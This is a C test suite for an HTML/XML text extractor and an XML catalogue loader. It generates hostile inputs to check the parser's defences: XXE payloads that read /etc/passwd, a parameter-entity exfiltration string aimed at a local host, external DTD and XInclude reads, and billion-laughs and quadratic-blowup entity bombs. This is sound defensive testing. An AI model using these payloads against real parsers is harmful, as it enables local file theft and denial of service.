/* test_extract_markup — HTML and XML extraction, hostile markup, and the
 * catalogue.
 *
 * Golden cases: each tests/data/extract/<name> is extracted with
 * extract_document() and its doc_dump() compared with <name>.golden.
 * `test_extract_markup --print FILE` prints the dump of FILE, for writing a
 * golden file (read it through before accepting it).  The hostile inputs
 * are generated here, not stored. */
#define _XOPEN_SOURCE 700
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <libxml/parser.h>

#include "catalogue.h"
#include "docfile.h"
#include "extract.h"
#include "scratch.h"
#include "tap.h"
#include "xalloc.h"
#include "xmlsafe.h"

static const char *const golden_names[] = {
    "page.html",   "broken.html", "boilerplate.html", "latin1-meta.html",
    "xhtml.xhtml", "minutes.xml", "other.xml",        NULL,
};

/* The dump of a document extracted from data, or the error. */
static char *dump_of(const char *name, const char *data, size_t len)
{
    ark_doc d;
    char *detail = NULL;
    ark_buf out = ARK_BUF_INIT;
    ark_status st = extract_document(name, data, len, NULL, NULL, &d, &detail);
    if (st != ARK_OK) {
        ark_buf_printf(&out, "error: %s: %s\n", ark_status_name(st), detail ? detail : "");
        free(detail);
        return ark_buf_take(&out);
    }
    doc_dump(&d, &out);
    doc_free(&d);
    return ark_buf_take(&out);
}

static char *dump_file(const char *path)
{
    docfile f;
    char *detail = NULL;
    if (docfile_read(path, &f, &detail) != ARK_OK) {
        char *s = ark_sprintf("cannot read %s: %s\n", path, detail ? detail : "");
        free(detail);
        return s;
    }
    char *s = dump_of(path, f.data, f.len);
    docfile_free(&f);
    return s;
}

static void run_golden(const char *dir)
{
    for (const char *const *name = golden_names; *name; name++) {
        char in[1024], want_path[1100];
        snprintf(in, sizeof in, "%s/extract/%s", dir, *name);
        snprintf(want_path, sizeof want_path, "%s.golden", in);
        docfile want;
        char *detail = NULL;
        if (!ok(docfile_read(want_path, &want, &detail) == ARK_OK, "golden %s is there", *name)) {
            free(detail);
            continue;
        }
        char *got = dump_file(in);
        char label[256];
        snprintf(label, sizeof label, "golden: %s", *name);
        is_str(got, want.data, label);
        free(got);
        docfile_free(&want);
    }
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

/* One hostile input through extract_document: its status, text and time. */
typedef struct {
    ark_status st;
    char *text;
    char *detail;
    double seconds;
} outcome;

static outcome run(const char *name, const char *data, size_t len)
{
    outcome o = {ARK_OK, NULL, NULL, 0};
    ark_doc d;
    double t0 = now();
    o.st = extract_document(name, data, len, NULL, NULL, &d, &o.detail);
    o.seconds = now() - t0;
    if (o.st == ARK_OK) {
        o.text = ark_strndup(d.text.data ? d.text.data : "", d.text.len);
        doc_free(&d);
    } else {
        o.text = ark_strdup("");
    }
    return o;
}

static void outcome_free(outcome *o)
{
    free(o->text);
    free(o->detail);
}

static void test_xxe(void)
{
    static const char *const cases[][2] = {
        {"general entity, file://",
         "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>a &x; b</d>"},
        {"parameter entity, file://",
         "<!DOCTYPE d [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]><d>a</d>"},
        {"parameter entity, exfiltration",
         "<!DOCTYPE d [<!ENTITY % f SYSTEM \"file:///etc/passwd\">"
         "<!ENTITY % e \"<!ENTITY &#x25; x SYSTEM 'http://127.0.0.1:9/?%f;'>\"> %e; %x;]>"
         "<d>a</d>"},
        {"general entity, http://",
         "<!DOCTYPE d [<!ENTITY x SYSTEM \"http://127.0.0.1:9/x\">]><d>a &x; b</d>"},
        {"parameter entity, http://",
         "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://127.0.0.1:9/p.dtd\"> %p;]><d>a</d>"},
        {"external DTD", "<!DOCTYPE d SYSTEM \"file:///etc/passwd\"><d>a</d>"},
        {"external DTD, http://", "<!DOCTYPE d SYSTEM \"http://127.0.0.1:9/d.dtd\"><d>a</d>"},
        {"XInclude", "<d xmlns:xi=\"http://www.w3.org/2001/XInclude\">a"
                     "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/></d>"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        outcome o = run("x.xml", cases[i][1], strlen(cases[i][1]));
        ok(!strstr(o.text, "root:") && o.seconds < 2,
           "XXE, %s: nothing read (%s, %.3f s, text \"%s\")", cases[i][0], ark_status_name(o.st),
           o.seconds, o.text);
        outcome_free(&o);
    }
    outcome o = run("x.xml", cases[0][1], strlen(cases[0][1]));
    is_str(o.text, "a b", "XXE: the document's own text is kept, the reference left out");
    outcome_free(&o);
}

/* The deny-all loader stands behind the options: even a parse that asks
 * for entities and the DTD gets nothing from a file. */
static void test_loader_denies(void)
{
    xmlsafe_init();
    const char *x = "<!DOCTYPE d SYSTEM \"file:///etc/passwd\" [<!ENTITY x SYSTEM "
                    "\"file:///etc/passwd\">]><d>&x;</d>";
    xmlDocPtr doc = xmlReadMemory(x, (int)strlen(x), NULL, NULL,
                                  XML_PARSE_NOENT | XML_PARSE_DTDLOAD | XML_PARSE_NOERROR |
                                      XML_PARSE_NOWARNING);
    char *text = doc ? (char *)xmlNodeGetContent(xmlDocGetRootElement(doc)) : NULL;
    ok(!text || !strstr(text, "root:"), "loader: NOENT|DTDLOAD still read no file");
    xmlFree(text);
    xmlFreeDoc(doc);
}

/* "lol9" expands to 10^9 "lol"s. */
static char *billion_laughs(void)
{
    ark_buf b = ARK_BUF_INIT;
    ark_buf_adds(&b, "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 \"lol\">\n");
    for (int i = 1; i < 10; i++) {
        ark_buf_printf(&b, "<!ENTITY lol%d \"", i);
        for (int j = 0; j < 10; j++)
            ark_buf_printf(&b, "&lol%d;", i - 1);
        ark_buf_adds(&b, "\">\n");
    }
    ark_buf_adds(&b, "]>\n<lolz>&lol9;</lolz>\n");
    return ark_buf_take(&b);
}

/* One entity of 20,000 characters referenced 20,000 times. */
static char *quadratic_blowup(void)
{
    ark_buf b = ARK_BUF_INIT;
    ark_buf_adds(&b, "<!DOCTYPE d [<!ENTITY a \"");
    for (int i = 0; i < 20000; i++)
        ark_buf_addc(&b, 'a');
    ark_buf_adds(&b, "\">]><d>");
    for (int i = 0; i < 20000; i++)
        ark_buf_adds(&b, "&a;");
    ark_buf_adds(&b, "</d>");
    return ark_buf_take(&b);
}

static void test_entity_bombs(void)
{
    char *x = billion_laughs();
    outcome o = run("lol.xml", x, strlen(x));
    ok(o.st == ARK_EPARSE && o.seconds < 2, "billion laughs: refused (%s) in %.3f s",
       ark_status_name(o.st), o.seconds);
    ok(o.detail && strstr(o.detail, "entit"), "billion laughs: the detail says why (%s)",
       o.detail ? o.detail : "");
    outcome_free(&o);
    free(x);

    /* in an attribute value libxml2 checks the expansion too */
    x = billion_laughs();
    char *attr = strstr(x, "<lolz>&lol9;</lolz>");
    strcpy(attr, "<lolz a=\"&lol9;\">x</lolz>\n");
    o = run("lol.xml", x, strlen(x));
    ok(o.seconds < 2 && strlen(o.text) < 1000, "billion laughs in an attribute: %s in %.3f s",
       ark_status_name(o.st), o.seconds);
    outcome_free(&o);
    free(x);

    x = quadratic_blowup();
    o = run("q.xml", x, strlen(x));
    ok(o.seconds < 2 && strlen(o.text) < 1000, "quadratic blowup: %s in %.3f s, %zu bytes",
       ark_status_name(o.st), o.seconds, strlen(o.text));
    outcome_free(&o);
    free(x);
}

static char *nested(const char *open, const char *close, int n, const char *middle)
{
    ark_buf b = ARK_BUF_INIT;
    for (int i = 0; i < n; i++)
        ark_buf_adds(&b, open);
    ark_buf_adds(&b, middle);
    for (int i = 0; close && i < n; i++)
        ark_buf_adds(&b, close);
    return ark_buf_take(&b);
}

static void test_depth(void)
{
    char *x = nested("<a>", "</a>", 10000, "deep");
    outcome o = run("deep.xml", x, strlen(x));
    is_int(o.st, ARK_EPARSE, "10,000-deep XML: ARK_EPARSE");
    ok(o.detail && strstr(o.detail, "nested too deeply"), "10,000-deep XML: detail \"%s\"",
       o.detail ? o.detail : "");
    outcome_free(&o);
    free(x);

    x = nested("<a>", "</a>", 200, "deep enough");
    o = run("ok.xml", x, strlen(x));
    is_str(o.text, "deep enough", "200-deep XML: its text");
    outcome_free(&o);
    free(x);

    x = nested("<div>", NULL, 10000, "bottom");
    o = run("deep.html", x, strlen(x));
    ok(o.st == ARK_OK && o.seconds < 5, "10,000 nested divs: %s in %.3f s", ark_status_name(o.st),
       o.seconds);
    outcome_free(&o);
    free(x);

    /* elements past 256 levels are flattened (htmlflat.h): their text stays */
    x = nested("<div>", "</div>", 10000, "bottom");
    ark_buf b = ARK_BUF_INIT;
    ark_buf_adds(&b, "<p>before</p>");
    ark_buf_adds(&b, x);
    ark_buf_adds(&b, "<p>after</p>");
    o = run("deep.html", b.data, b.len);
    is_str(o.text, "before\n\nbottom\n\nafter",
           "10,000 nested divs: the text inside them and around them is kept");
    outcome_free(&o);
    ark_buf_free(&b);
    free(x);

    /* unclosed <font>s and stray end tags, which made libxml2 quadratic */
    for (int i = 0; i < 20000; i++)
        ark_buf_printf(&b, "<font><p>ord%d</span></div> ", i);
    o = run("sloppy.html", b.data, b.len);
    ok(o.st == ARK_OK && strstr(o.text, "ord0\n") && strstr(o.text, "ord10000\n") &&
           strstr(o.text, "ord19999"),
       "20,000 unclosed <font>s among stray end tags: every word is kept");
    outcome_free(&o);
    ark_buf_free(&b);

    x = nested("<span><b>", "</b></span>", 5000, "inline");
    o = run("deep.html", x, strlen(x));
    ok(o.st == ARK_OK && o.seconds < 5, "10,000 nested inline elements: %s", ark_status_name(o.st));
    outcome_free(&o);
    free(x);
}

static void test_broken(void)
{
    const char *x = "<?xml version=\"1.0\"?>\n<a>\n  <b>text</c>\n</a>\n";
    outcome o = run("b.xml", x, strlen(x));
    is_int(o.st, ARK_EPARSE, "broken XML: ARK_EPARSE");
    ok(o.detail && strncmp(o.detail, "broken XML at line 3: ", 22) == 0,
       "broken XML: detail \"%s\"", o.detail ? o.detail : "");
    outcome_free(&o);

    o = run("e.xml", "", 0);
    is_int(o.st, ARK_EPARSE, "empty XML: ARK_EPARSE");
    outcome_free(&o);

    o = run("e.html", "", 0);
    ok(o.st == ARK_OK && strlen(o.text) == 0, "empty HTML: an empty document (%s)",
       ark_status_name(o.st));
    outcome_free(&o);

    o = run("n.html", "<p>a\0b</p>", 10);
    is_int(o.st, ARK_EBINARY, "HTML with a NUL byte: ARK_EBINARY");
    outcome_free(&o);
}

/* libxml2 must not write to stderr: parse broken input with stderr on a file. */
static void test_silent(void)
{
    fflush(stderr);
    int saved = dup(2);
    int fd = open(tmp_path("stderr"), O_CREAT | O_TRUNC | O_WRONLY, 0600);
    dup2(fd, 2);
    const char *inputs[][2] = {
        {"x.xml", "<a><b></a>"},
        {"x.xml", "<?xml version=\"1.0\" encoding=\"bogus-42\"?><a/>"},
        {"x.xml", "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///nonexistent\">]><d>&x;&y;</d>"},
        {"x.html", "<html><body><p>a &bogus; <div></span></p></body>"},
        {"x.html", "<meta charset=\"bogus-42\"><p>\xff\xfe text</p>"},
    };
    for (size_t i = 0; i < sizeof inputs / sizeof inputs[0]; i++) {
        outcome o = run(inputs[i][0], inputs[i][1], strlen(inputs[i][1]));
        outcome_free(&o);
    }
    fflush(stderr);
    dup2(saved, 2);
    close(saved);
    off_t size = lseek(fd, 0, SEEK_END);
    close(fd);
    is_int((long)size, 0, "libxml2 printed nothing to stderr");
}

static void write_file(const char *path, const char *s)
{
    FILE *f = fopen(path, "w");
    fputs(s, f);
    fclose(f);
}

static const char *catalogue_xml =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<catalogue>\n"
    "  <document path=\"001_cdfb46e5789d4a96.txt\">\n"
    "    <title>Politirådet 13.10.2025 — referat</title>\n"
    "    <date end=\"2025-10-14\">2025-10-13</date>\n"
    "    <kind>Ekstraordinært Møte</kind>\n"
    "    <access>internal</access>\n"
    "    <description>Ekstra   møte.</description>\n"
    "    <participants><participant>Ida Melbo Øystese (politimester)</participant>\n"
    "      <participant>Kari Nordmann</participant></participants>\n"
    "  </document>\n"
    "  <document path=\"./sub/002.txt\"><date>2026-03</date></document>\n"
    "  <document path=\"003.txt\"><title/></document>\n"
    "</catalogue>\n";

static catalogue *load_ok(const char *xml, const char *name)
{
    write_file(tmp_path(name), xml);
    catalogue *c = NULL;
    char *detail = NULL;
    ark_status st = catalogue_load(tmp_path(name), &c, &detail);
    if (!ok(st == ARK_OK, "catalogue %s loads", name))
        tap_diag("detail", detail);
    free(detail);
    return c;
}

/* The status and detail of loading a catalogue that should fail. */
static ark_status load_fails(const char *xml, const char *name, char **detail)
{
    write_file(tmp_path(name), xml);
    catalogue *c = NULL;
    ark_status st = catalogue_load(tmp_path(name), &c, detail);
    ok(c == NULL, "catalogue %s: no catalogue returned", name);
    catalogue_free(c);
    return st;
}

static void test_catalogue_apply(const catalogue *c)
{
    ark_doc d;
    doc_init(&d, "text");
    doc_set(&d.title, "Gammel tittel", 13);
    doc_set(&d.kind, "annet", 5);
    strcpy(d.date, "2020");
    strcpy(d.date_end, "2021");
    d.access = DOC_PUBLIC;
    doc_add_participant(&d, "Noen", 4);
    catalogue_apply(catalogue_find(c, "001_cdfb46e5789d4a96.txt"), &d);
    ark_buf out = ARK_BUF_INIT;
    doc_dump(&d, &out);
    is_str(out.data,
           "format: text\n"
           "title: Politirådet 13.10.2025 — referat\n"
           "date: 2025-10-13 to 2025-10-14\n"
           "kind: ekstraordinært møte\n"
           "access: internal\n"
           "description: Ekstra møte.\n"
           "participant: Ida Melbo Øystese (politimester)\n"
           "participant: Kari Nordmann\n"
           "text:\n",
           "catalogue_apply: every field given replaces the document's");
    doc_free(&d);

    doc_init(&d, "text");
    doc_set(&d.title, "Beholdt", 7);
    strcpy(d.date, "2026-03-04");
    strcpy(d.date_end, "2026-03-05");
    catalogue_apply(catalogue_find(c, "sub/002.txt"), &d);
    is_str(d.title, "Beholdt", "catalogue_apply: a field not given is kept");
    is_str(d.date, "2026-03", "catalogue_apply: the date given replaces the extracted one");
    is_str(d.date_end, "", "catalogue_apply: ... and its end");
    catalogue_apply(catalogue_find(c, "003.txt"), &d);
    ok(d.title == NULL, "catalogue_apply: an empty <title/> clears the title");
    ark_buf before = ARK_BUF_INIT, after = ARK_BUF_INIT;
    doc_dump(&d, &before);
    catalogue_apply(NULL, &d);
    doc_dump(&d, &after);
    is_str(after.data, before.data, "catalogue_apply: no entry changes nothing");
    ark_buf_free(&before);
    ark_buf_free(&after);
    ark_buf_free(&out);
    doc_free(&d);
}

static void test_catalogue_fingerprint(const catalogue *c)
{
    const struct cat_entry *e1 = catalogue_find(c, "001_cdfb46e5789d4a96.txt");
    is_int((long)catalogue_fingerprint(NULL), 0, "fingerprint(NULL) is 0");
    ok(catalogue_fingerprint(e1) != 0, "fingerprint of an entry is not 0");
    ok(catalogue_fingerprint(e1) != catalogue_fingerprint(catalogue_find(c, "003.txt")),
       "different entries, different fingerprints");

    catalogue *same = load_ok(catalogue_xml, "same.xml");
    ok(same && catalogue_fingerprint(catalogue_find(same, "001_cdfb46e5789d4a96.txt")) ==
                   catalogue_fingerprint(e1),
       "the same entry loaded again has the same fingerprint");
    catalogue_free(same);

    static const char *const edits[][3] = {
        {"<access>internal</access>", "<access>public</access>", "access"},
        {"Kari Nordmann", "Kari  Nordmann (byråd)", "a participant"},
        {"end=\"2025-10-14\"", "end=\"2025-10-15\"", "the end date"},
        {"    <kind>Ekstraordinært Møte</kind>\n", "", "kind (removed)"},
    };
    for (size_t i = 0; i < sizeof edits / sizeof edits[0]; i++) {
        char *xml = ark_strdup(catalogue_xml);
        char *at = strstr(xml, edits[i][0]);
        ark_buf b = ARK_BUF_INIT;
        ark_buf_add(&b, xml, (size_t)(at - xml));
        ark_buf_adds(&b, edits[i][1]);
        ark_buf_adds(&b, at + strlen(edits[i][0]));
        catalogue *changed = load_ok(b.data, "changed.xml");
        const struct cat_entry *e2 = catalogue_find(changed, "001_cdfb46e5789d4a96.txt");
        ok(e2 && catalogue_fingerprint(e2) != catalogue_fingerprint(e1),
           "fingerprint changes with %s", edits[i][2]);
        ok(catalogue_fingerprint(catalogue_find(changed, "003.txt")) ==
               catalogue_fingerprint(catalogue_find(c, "003.txt")),
           "... and not for the entry left alone");
        catalogue_free(changed);
        ark_buf_free(&b);
        free(xml);
    }
}

static void expect_failure(const char *xml, const char *name, ark_status want, const char *words1,
                           const char *words2)
{
    char *detail = NULL;
    ark_status st = load_fails(xml, name, &detail);
    ok(st == want && detail && strstr(detail, words1) && (!words2 || strstr(detail, words2)),
       "catalogue %s: %s with a detail naming \"%s\"%s%s%s (%s)", name, ark_status_name(want),
       words1, words2 ? " and \"" : "", words2 ? words2 : "", words2 ? "\"" : "",
       detail ? detail : "no detail");
    free(detail);
}

static void test_catalogue_errors(void)
{
    char *detail = NULL;
    catalogue *c = NULL;
    ark_status st = catalogue_load(tmp_path("nonexistent.xml"), &c, &detail);
    is_int(st, ARK_ENOTFOUND, "missing catalogue: ARK_ENOTFOUND");
    free(detail);

    expect_failure("<catalogue>\n<document path=\"a.txt\">\n<title>x</document>\n</catalogue>",
                   "broken.xml", ARK_EPARSE, "broken XML at line 3", NULL);
    expect_failure("<catalogue>\n<document path=\"001_x.txt\">\n<date>2026-13</date>\n"
                   "</document></catalogue>",
                   "baddate.xml", ARK_EPARSE, "001_x.txt", "date \"2026-13\"");
    expect_failure("<catalogue><document path=\"a.txt\"><date end=\"2026-02-30\">2026-02-01</date>"
                   "</document></catalogue>",
                   "badend.xml", ARK_EPARSE, "a.txt", "end date");
    expect_failure("<catalogue><document path=\"b.txt\"><access>secret</access></document>"
                   "</catalogue>",
                   "badaccess.xml", ARK_EPARSE, "b.txt", "access \"secret\"");
    expect_failure("<catalogue><document path=\"c.txt\"><tittel>x</tittel></document></catalogue>",
                   "unknown.xml", ARK_EPARSE, "c.txt", "<tittel>");
    expect_failure("<catalogue><document><title>x</title></document></catalogue>", "nopath.xml",
                   ARK_EPARSE, "without a path", NULL);
    expect_failure("<catalogue><document path=\"d.txt\"/><document path=\"./d.txt\"/></catalogue>",
                   "twice.xml", ARK_EPARSE, "d.txt is listed twice", NULL);
    expect_failure("<katalog/>", "root.xml", ARK_EPARSE, "not a catalogue", NULL);
    expect_failure("<!DOCTYPE c [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                   "<catalogue><document path=\"e.txt\"><date>&x;</date></document></catalogue>",
                   "xxe.xml", ARK_EPARSE, "invalid date \"\"", NULL);
}

static void test_catalogue_many(void)
{
    ark_buf b = ARK_BUF_INIT;
    ark_buf_adds(&b, "<catalogue>\n");
    for (int i = 0; i < 5000; i++)
        ark_buf_printf(&b,
                       "<document path=\"dir%d/%05d.txt\"><title>Dokument %d</title></document>\n",
                       i % 7, i, i);
    ark_buf_adds(&b, "</catalogue>\n");
    double t0 = now();
    catalogue *c = load_ok(b.data, "many.xml");
    int found = 0;
    for (int i = 0; i < 5000; i++) {
        char path[64];
        snprintf(path, sizeof path, "dir%d/%05d.txt", i % 7, i);
        found += catalogue_find(c, path) != NULL;
    }
    double secs = now() - t0;
    is_int((long)catalogue_count(c), 5000, "5,000 entries counted");
    ok(found == 5000 && secs < 2, "5,000 entries loaded and found in %.3f s", secs);
    ok(catalogue_find(c, "dir0/99999.txt") == NULL, "a path not listed is not found");
    catalogue_free(c);
    ark_buf_free(&b);
}

static void test_catalogue(void)
{
    catalogue *c = load_ok(catalogue_xml, "catalogue.xml");
    if (!c)
        return;
    is_int((long)catalogue_count(c), 3, "catalogue_count: 3 entries");
    ok(catalogue_find(c, "001_cdfb46e5789d4a96.txt") != NULL, "catalogue_find: by path");
    ok(catalogue_find(c, "sub/002.txt") != NULL, "catalogue_find: \"./\" in the file is dropped");
    ok(catalogue_find(c, "./003.txt") != NULL, "catalogue_find: \"./\" in the query is dropped");
    ok(catalogue_find(c, "004.txt") == NULL, "catalogue_find: NULL for a path not listed");
    test_catalogue_apply(c);
    test_catalogue_fingerprint(c);
    catalogue_free(c);
    catalogue_free(NULL);
    test_catalogue_errors();
    test_catalogue_many();
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "--print") == 0) {
        char *s = dump_file(argv[2]);
        fputs(s, stdout);
        free(s);
        return 0;
    }
    if (!make_tmpdir("extract-markup")) {
        printf("Bail out! no scratch directory\n");
        return 1;
    }
    const char *dir = getenv("ARKIV_TESTDATA") ? getenv("ARKIV_TESTDATA") : "tests/data";
    run_golden(dir);
    test_xxe();
    test_loader_denies();
    test_entity_bombs();
    test_depth();
    test_broken();
    test_silent();
    test_catalogue();
    rm_rf(tmpdir);
    xmlCleanupParser();
    return done_testing();
}
